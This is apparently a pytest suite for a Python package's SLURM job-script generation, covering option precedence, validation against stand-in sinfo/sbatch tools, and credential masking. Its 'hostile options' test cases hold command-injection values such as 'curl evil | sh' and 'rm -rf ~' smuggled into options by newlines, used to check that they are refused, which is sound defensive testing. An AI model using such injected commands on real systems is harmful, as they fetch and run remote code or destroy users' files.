"""SLURM options: resolved, checked against sinfo, written into the job script, masked.

No SLURM controller is needed here: ``sinfo``/``sbatch`` are stand-ins where a test
needs them, and job scripts are made without submitting anything.
"""

from __future__ import annotations

import base64
import json
import math
import os
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import dask
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.cluster._support import CONFIG_SECRET, ENV_SECRET, payloads, sbatch_lines
from tests.conftest import ROOT

import lazyraster
from lazyraster.cluster import JobScript, _slurm
from lazyraster.errors import ClusterConfigError, LazyrasterError

cluster = lazyraster.cluster


def test_option_precedence_argument_environment_config(clean_slurm_env):
    clean_slurm_env.setenv("LAZYRASTER_SLURM_ACCOUNT", "from-env")
    clean_slurm_env.setenv("SBATCH_PARTITION", "sbatch-env")
    clean_slurm_env.setenv("LAZYRASTER_SLURM_JOB_SCRIPT_PROLOGUE", "module load gdal; cd /tmp")
    config = {"jobqueue.slurm.account": "from-config", "jobqueue.slurm.walltime": "02:00:00"}
    with dask.config.set(config):
        from_env = _slurm.slurm_job_script(cores=2, memory="3GiB")
        from_arg = _slurm.slurm_job_script(
            cores=2, memory="3GiB", account="from-arg", partition="p1"
        )
    assert "#SBATCH -A from-env" in sbatch_lines(from_env)
    assert "#SBATCH -p sbatch-env" in sbatch_lines(from_env)
    assert "#SBATCH -t 02:00:00" in sbatch_lines(from_env)  # only config sets it
    assert "module load gdal\ncd /tmp\n" in from_env
    assert "#SBATCH -A from-arg" in sbatch_lines(from_arg)
    assert "#SBATCH -p p1" in sbatch_lines(from_arg)


def test_settings_reach_the_worker_script(clean_slurm_env):
    clean_slurm_env.setenv("GDAL_HTTP_MAX_RETRY", "7 tries")
    with dask.config.set({"lazyraster.cluster.log-tail-lines": 12}):
        script = _slurm.slurm_job_script(cores=1, memory="1GiB")
    assert "export GDAL_HTTP_MAX_RETRY='7 tries'" in script
    line = next(x for x in script.splitlines() if "DASK_INTERNAL_INHERIT_CONFIG" in x)
    payload = line.split("=", 1)[1]
    inherited = json.loads(base64.b64decode(payload))
    assert inherited["lazyraster"]["cluster"]["log-tail-lines"] == 12
    assert f"{sys.executable} -m distributed.cli.dask_worker" in script


def test_dry_run_gives_the_script_and_options_prints_and_submits_nothing(
    clean_slurm_env, tmp_path, capsys
):
    called = _recording_slurm_commands(clean_slurm_env, tmp_path)
    clean_slurm_env.setenv("SBATCH_ACCOUNT", "proj-env")
    with cluster("slurm", dry_run=True, cores=3, memory="5GiB") as job:
        assert isinstance(job, JobScript)
    assert capsys.readouterr() == ("", "")  # nothing on stdout or stderr
    assert not called.exists()  # no SLURM command ran: nothing submitted
    assert str(job) == job.script  # what callers of str(job_script) had before
    assert "#SBATCH --cpus-per-task=3" in sbatch_lines(job.script)
    assert "#SBATCH --mem=5G" in sbatch_lines(job.script)
    assert "#SBATCH -A proj-env" in sbatch_lines(job.script)
    # the options as resolved: arguments, the environment and dask-jobqueue's config
    assert (job.options["cores"], job.options["memory"]) == (3, "5GiB")
    assert job.options["account"] == "proj-env"
    assert job.options["walltime"] == dask.config.get("jobqueue.slurm.walltime")
    assert job.script == _slurm.slurm_job_script(cores=3, memory="5GiB")
    with pytest.raises(TypeError):
        job.options["cores"] = 4  # read-only: the script was written from them


def _recording_slurm_commands(monkeypatch: pytest.MonkeyPatch, tmp_path) -> object:
    """``sinfo``/``sbatch``/``squeue`` stand-ins on PATH that note that they ran."""
    bin_dir, called = tmp_path / "bin", tmp_path / "called"
    bin_dir.mkdir()
    for tool in ("sinfo", "sbatch", "squeue", "scontrol"):
        (bin_dir / tool).write_text(f"#!/bin/sh\necho {tool} >> {called}\nexit 1\n")
        (bin_dir / tool).chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    return called


def test_missing_cores_or_memory_names_the_options(clean_slurm_env):
    with pytest.raises(ClusterConfigError, match="cores=8, memory='32GiB'") as info:
        _slurm.slurm_job_script(cores=2)
    assert "LAZYRASTER_SLURM_MEMORY" in str(info.value)
    assert isinstance(info.value, LazyrasterError)
    clean_slurm_env.setenv("LAZYRASTER_SLURM_CORES", "two")
    with pytest.raises(ClusterConfigError, match="LAZYRASTER_SLURM_CORES='two'"):
        _slurm.slurm_job_script(memory="1GiB")


@pytest.fixture
def fake_sinfo(tmp_path, clean_slurm_env):
    """``sinfo``/``sbatch`` stand-ins: partitions debug (default, 4 CPUs, 8000 MiB) and big."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "sinfo").write_text("#!/bin/sh\nprintf 'debug*|4|8000\\nbig|64|256000\\n'\n")
    (bin_dir / "sbatch").write_text("#!/bin/sh\necho sbatch must not run >&2; exit 1\n")
    for tool in bin_dir.iterdir():
        tool.chmod(0o755)
    clean_slurm_env.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")


@pytest.mark.parametrize(
    ("options", "named"),
    [
        ({"partition": "nope"}, r"partition='nope': SLURM has no such partition"),
        # dask-jobqueue rounds --mem up to whole GiB: 9000 MiB become 9216M
        ({"memory": "9000MiB"}, r"memory='9000MiB' \(--mem=9216M per job\).*8000 MiB.*'7GiB'"),
        ({"memory": "7.9GiB"}, r"memory='7.9GiB' \(--mem=8192M per job\)"),
        ({"job_mem": "8001M"}, r"\(--mem=8001M per job\)"),
        ({"cores": 5}, r"cores=5 .* \(4 CPUs\)"),
        ({"partition": "big", "memory": "300GB"}, r"memory='300GB'.*'big'"),
    ],
)
def test_validation_against_sinfo_fails_before_submitting(fake_sinfo, options, named):
    kwargs = {"cores": 1, "memory": "1GiB", **options}
    with pytest.raises(ClusterConfigError, match=named):
        _slurm._validate_slurm(_slurm._resolve_slurm_options(kwargs, {}))


@settings(max_examples=40, deadline=None)
@given(memory=st.integers(min_value=2**20, max_value=2**40))
def test_checked_memory_is_the_memory_in_the_job_script(memory):
    """Validation compares the --mem dask-jobqueue writes, rounding included."""
    script = _slurm._job_script({"cores": 1, "memory": memory})
    mem = next(line for line in sbatch_lines(script) if line.startswith("#SBATCH --mem="))
    number, unit = int(mem[len("#SBATCH --mem=") : -1]), mem[-1]
    assert unit in "KMG"
    in_script_mib = number * {"K": 2**-10, "M": 1, "G": 2**10}[unit]
    checked_mib = _slurm._job_memory_mib({"memory": memory})
    assert checked_mib == math.ceil(in_script_mib)
    assert checked_mib * 2**20 >= memory


def test_valid_options_pass_validation(fake_sinfo):
    resolve = _slurm._resolve_slurm_options
    _slurm._validate_slurm(resolve({"cores": 4, "memory": "7GiB"}, {}))
    _slurm._validate_slurm(resolve({"cores": 1, "memory": "9GiB", "job_mem": "8000M"}, {}))
    _slurm._validate_slurm(resolve({"cores": 64, "memory": "200GiB", "queue": "big"}, {}))


def test_slurm_without_slurm_commands_says_so(clean_slurm_env, tmp_path):
    clean_slurm_env.setenv("PATH", str(tmp_path))
    with (
        pytest.raises(ClusterConfigError, match="sinfo, sbatch"),
        cluster("slurm", cores=1, memory="1GiB"),
    ):
        pass


# --------------------------------------------------------------------------- hostile options


@pytest.mark.parametrize(
    ("options", "named"),
    [
        ({"cores": 0}, r"cores=0 must be a whole number of at least 1, e.g. cores=8"),
        ({"cores": -2}, r"cores=-2"),
        ({"cores": True}, r"cores=True"),
        ({"processes": 0}, r"processes=0 .* e.g. processes=2"),
        ({"memory": "-4GiB"}, r"memory='-4GiB' is not a positive amount.*'8GiB'"),
        ({"memory": "0"}, r"memory='0'"),
        ({"walltime": "forever"}, r"walltime='forever' is not a time limit SLURM accepts"),
        ({"walltime": "1:2:3:4"}, r"walltime='1:2:3:4'.*D-HH:MM:SS"),
        ({"account": "proj\n#SBATCH --qos=high"}, r"account='proj\\n#SBATCH --qos=high'.*one line"),
        ({"partition": "debug\r"}, r"queue='debug\\r'"),
        ({"job_name": "w\n#SBATCH -N 100"}, r"job_name="),
        ({"job_extra_directives": ["--gres=gpu:1\nrm -rf ~"]}, r"job_extra_directives="),
        ({"python": "python3\ncurl evil | sh"}, r"python="),
    ],
)
def test_bad_slurm_options_are_refused_naming_the_option(clean_slurm_env, options, named):
    kwargs = {"cores": 1, "memory": "1GiB", **options}
    with pytest.raises(ClusterConfigError, match=named):
        _slurm.slurm_job_script(**kwargs)
    with pytest.raises(ClusterConfigError, match=named), cluster("slurm", dry_run=True, **kwargs):
        pass


@pytest.mark.parametrize("walltime", ["30", "30:00", "02:00:00", "1-12", "1-12:30", "2-00:00:00"])
def test_every_slurm_walltime_format_is_accepted(clean_slurm_env, walltime):
    script = _slurm.slurm_job_script(cores=1, memory="1GiB", walltime=walltime)
    assert f"#SBATCH -t {walltime}" in sbatch_lines(script)


def test_bad_walltime_from_the_environment_names_the_option(clean_slurm_env):
    clean_slurm_env.setenv("SBATCH_TIMELIMIT", "a week")
    with pytest.raises(ClusterConfigError, match="walltime='a week'"):
        _slurm.slurm_job_script(cores=1, memory="1GiB")


def test_prologue_lines_are_shell_code_and_may_be_anything(clean_slurm_env):
    script = _slurm.slurm_job_script(
        cores=1, memory="1GiB", job_script_prologue=["module load gdal\nmodule load proj"]
    )
    assert "module load gdal\nmodule load proj\n" in script


# --------------------------------------------------------------------------- secrets


def test_credentials_are_masked_in_the_job_script_and_the_dry_run(clean_slurm_env, capsys):
    clean_slurm_env.setenv("GDAL_HTTP_USERPWD", ENV_SECRET)
    clean_slurm_env.setenv("AWS_SECRET_ACCESS_KEY", "aws-s3cret-77")
    clean_slurm_env.setenv("AWS_REGION", "eu-north-1")
    with (
        dask.config.set({"lazyraster.gdal.GDAL_HTTP_HEADERS": CONFIG_SECRET}),
        cluster("slurm", dry_run=True, cores=1, memory="1GiB") as job,
    ):
        script = str(job)
    assert capsys.readouterr() == ("", "")
    secrets = (ENV_SECRET, CONFIG_SECRET, "aws-s3cret-77", "cfg-t0ken")
    for text in (payloads(script), repr(job), str(dict(job.options))):
        assert not [secret for secret in secrets if secret in text]
    for name in ("GDAL_HTTP_USERPWD", "GDAL_HTTP_HEADERS", "AWS_SECRET_ACCESS_KEY"):
        assert f"# {name}=*** comes with the job's environment" in script
    assert "export AWS_REGION=eu-north-1" in script  # not a credential: exported as before
    # the rest of the package's GDAL settings still travel in the script
    assert '"GDAL_HTTP_MAX_RETRY": 3' in payloads(script)


@pytest.mark.parametrize(
    ("directives", "environ", "expected"),
    [
        ([], {}, "ALL"),
        ([], {"SBATCH_EXPORT": "ALL,FOO=1"}, "ALL,FOO=1"),
        (["--export=NONE"], {}, "GDAL_HTTP_USERPWD"),
        ([], {"SBATCH_EXPORT": "HOME,PATH"}, "HOME,PATH,GDAL_HTTP_USERPWD"),
        (["--export=NIL,PATH"], {"SBATCH_EXPORT": "ALL"}, "PATH,GDAL_HTTP_USERPWD"),
    ],
)
def test_export_keeps_the_users_choice_and_adds_the_credentials(directives, environ, expected):
    resolved = {"job_extra_directives": directives}
    assert _slurm._export_option(resolved, environ, ["GDAL_HTTP_USERPWD"]) == expected


_TRICKY = 'it\'s $HOME `id` \\ "quoted"\nsecond line'

_STAND_IN_SBATCH = """#!/bin/sh
printf '%s' "$GDAL_HTTP_USERPWD" > "$(dirname "$0")/value"
printf '%s\\n' "$@" > "$(dirname "$0")/argv"
"""


def test_submit_command_gives_sbatch_the_credentials_from_a_file_only_the_user_reads(
    clean_slurm_env, tmp_path
):
    """dask-jobqueue runs ``submit_command`` + the script's path; sbatch gets the value.

    The value (quotes, ``$``, backquotes, a newline) arrives byte for byte in a stand-in
    ``sbatch``'s environment, is on no argument, and sits in a 0600 file in a 0700 folder
    that is gone once the cluster's block ends.
    """
    from dask_jobqueue.slurm import SLURMJob

    bin_ = tmp_path / "bin"
    bin_.mkdir()
    (bin_ / "sbatch").write_text(_STAND_IN_SBATCH)
    (bin_ / "sbatch").chmod(0o700)
    clean_slurm_env.setenv("PATH", f"{bin_}{os.pathsep}{os.environ['PATH']}")
    clean_slurm_env.setenv("GDAL_HTTP_USERPWD", _TRICKY)
    resolved = {"job_extra_directives": ["--export=NONE"]}
    with _slurm._job_class(resolved) as job_cls:
        assert issubclass(job_cls, SLURMJob)
        command = [*shlex.split(job_cls.submit_command), str(tmp_path / "job.sh")]
        (credentials,) = [Path(a) for a in shlex.split(command[2]) if a.endswith(".sh")]
        assert stat.S_IMODE(credentials.stat().st_mode) == 0o600
        assert stat.S_IMODE(credentials.parent.stat().st_mode) == 0o700
        subprocess.run(command, check=True, env=os.environ)
    assert not credentials.parent.exists()
    assert (bin_ / "value").read_text() == _TRICKY
    argv = (bin_ / "argv").read_text().splitlines()
    assert argv == ["--export=GDAL_HTTP_USERPWD", str(tmp_path / "job.sh")]
    assert not [a for a in command if "second line" in a or "`id`" in a]


def test_without_credentials_jobs_are_submitted_by_plain_sbatch(clean_slurm_env):
    from dask_jobqueue.slurm import SLURMJob

    for name in [n for n in os.environ if _slurm.SECRET_NAME.search(n)]:
        clean_slurm_env.delenv(name)
    with _slurm._job_class({}) as job_cls:
        assert job_cls is SLURMJob and job_cls.submit_command == "sbatch"


def test_a_credential_no_shell_can_export_is_refused_naming_it(clean_slurm_env):
    with (
        dask.config.set({"lazyraster.gdal": {"GDAL-HTTP-TOKEN": "t"}}),
        pytest.raises(ClusterConfigError, match="'GDAL-HTTP-TOKEN' cannot reach SLURM jobs"),
        _slurm._job_class({}),
    ):
        pass


# --------------------------------------------------------------------------- dask-jobqueue

_FRESH_IMPORT = """
import json, os, sys
import dask.config
original = dask.config.ensure_file
import lazyraster
before = dict(os.environ)
with lazyraster.cluster("slurm", dry_run=True, cores=1, memory="1GiB") as job:
    pass
script = lazyraster.slurm_job_script(cores=2, memory="2GiB")
print(json.dumps({
    "imported": "dask_jobqueue" in sys.modules,
    "ensure_file_is_dasks": dask.config.ensure_file is original,
    "environ_unchanged": dict(os.environ) == before,
    "scripts": [str(job), script],
}))
"""


def test_dask_jobqueue_is_imported_without_swapping_dask_functions(clean_slurm_env, tmp_path):
    """In a fresh interpreter, as at a user's first SLURM call: dask's ensure_file is left.

    dask-jobqueue's import copies its defaults, commented out, into dask's config folder
    ($DASK_CONFIG here): that it did proves that no stand-in replaced dask's function.
    """
    config_dir = tmp_path / "dask-config"
    env = {
        **os.environ,
        "DASK_CONFIG": str(config_dir),
        "HOME": str(tmp_path / "home"),
        "PYTHONPATH": str(ROOT / "src"),
    }
    done = subprocess.run(
        [sys.executable, "-c", _FRESH_IMPORT], env=env, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr[-3000:]
    seen = json.loads(done.stdout.splitlines()[-1])
    assert seen["imported"] and seen["ensure_file_is_dasks"] and seen["environ_unchanged"]
    job, script = seen["scripts"]
    assert "#SBATCH --cpus-per-task=1" in sbatch_lines(job)
    assert "#SBATCH --cpus-per-task=2" in sbatch_lines(script)
    copied = (config_dir / "jobqueue.yaml").read_text().splitlines()
    assert any("slurm:" in line for line in copied)
    assert all(line.startswith("#") for line in copied if line.strip())  # changes no setting
    assert not (tmp_path / "home" / ".config" / "dask").exists()
